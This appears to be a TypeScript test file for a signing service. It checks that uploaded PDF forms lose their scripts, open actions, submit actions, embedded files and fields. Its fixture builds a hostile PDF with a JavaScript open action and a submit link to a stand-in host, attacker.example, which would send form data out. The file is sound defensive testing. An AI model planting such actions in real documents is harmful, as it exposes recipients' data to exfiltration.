import { execFile } from 'node:child_process'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { and, eq } from 'drizzle-orm'
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'
import { describe, expect, it } from 'vitest'
import { useTestApp } from '../../../test/per-file'
import { signingEvent } from '../../db/schema/signing'
import { createFileStorage } from '../../storage/create-file-storage'
import { pdftotext, setUpPdfWork } from './signing-pdf.test-helpers'
import { acceptedOffer, offersCaller, packetFiles, packetOf, pdfWithPages, uploadForm } from './signing.test-helpers'

const run = promisify(execFile)
const t = useTestApp()
setUpPdfWork()
const call = offersCaller(t)

/** A filled form as a sender might get it from elsewhere: a script on opening, a submit link to an outside address, a file inside, and a field. */
async function hostileForm(): Promise<Buffer> {
  const doc = await PDFDocument.create()
  const font = await doc.embedFont(StandardFonts.Helvetica)
  const page = doc.addPage([612, 792])
  page.drawText('Purchaser addendum', { x: 72, y: 720, size: 16, font })
  const field = doc.getForm().createTextField('buyerName')
  field.setText('Jane Roe')
  field.addToPage(page, { x: 72, y: 640, width: 200, height: 24 })
  const { context } = doc
  doc.catalog.set(PDFName.of('OpenAction'), context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hello")') }))
  const submit = context.obj({ Type: 'Action', S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of('https://attacker.example/collect') }) })
  const link = context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 560, 272, 580], Border: [0, 0, 0], A: submit }))
  page.node.addAnnot(link)
  await doc.attach(Buffer.from('secret'), 'secret.txt', { mimeType: 'text/plain' })
  return Buffer.from(await doc.save())
}

async function storedOriginal(packetId: string): Promise<Buffer> {
  const [stored] = await packetFiles(t, packetId)
  const content = await createFileStorage(t.config.storage).get(stored!.key)
  const chunks: Buffer[] = []
  for await (const chunk of content!.body) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}

/** qpdf's JSON of the file, as a reader's own tool sees its objects. */
async function qpdfObjects(pdf: Buffer): Promise<string> {
  const path = join(mkdtempSync(join(tmpdir(), 'clean-')), 'packet.pdf')
  writeFileSync(path, pdf)
  const { stdout } = await run('qpdf', ['--json', '--json-key=qpdf', path], { maxBuffer: 64 * 1024 * 1024 })
  return stdout
}

describe('an uploaded form document', () => {
  it('loses its scripts, its actions, its files and its fields, keeps what its pages show, and the sender is told what went', async () => {
    const deal = await acceptedOffer(t)
    const packet = packetOf(await uploadForm(t, deal.buyer, deal.offer.id, await hostileForm(), { filename: 'Addendum.pdf' }), 201)
    expect(packet.documents[0]?.removed).toEqual(['scripts', 'openActions', 'actions', 'embeddedFiles', 'formFields'])

    const original = await storedOriginal(packet.id)
    const objects = await qpdfObjects(original)
    for (const word of ['/JavaScript', '/OpenAction', '/SubmitForm', '/EmbeddedFile', '/AcroForm', '/Widget', 'attacker.example']) expect(objects.includes(word), `the packet still holds ${word}`).toBe(false)
    // The field's value is drawn into the page: a reader sees it, and there is nothing left to type into.
    const text = await pdftotext(original)
    expect(text).toContain('Purchaser addendum')
    expect(text).toContain('Jane Roe')

    // The packet's record says what was taken out, and the sender's view lists it.
    const read = packetOf(await call(deal.buyer, 'GET', `/api/signing/packets/${packet.id}`), 200)
    expect(read.documents[0]?.removed).toEqual(packet.documents[0]?.removed)
    // The hash-chained 'created' event records it too.
    const [created] = await t.db.select().from(signingEvent).where(and(eq(signingEvent.packetId, packet.id), eq(signingEvent.type, 'created')))
    expect(created?.details).toMatchObject({ documents: [{ filename: 'Addendum.pdf', removed: packet.documents[0]?.removed }] })
  })

  it('a plain PDF has nothing taken out', async () => {
    const deal = await acceptedOffer(t)
    const packet = packetOf(await uploadForm(t, deal.buyer, deal.offer.id, await pdfWithPages(1)), 201)
    expect(packet.documents[0]?.removed).toEqual([])
  })
})
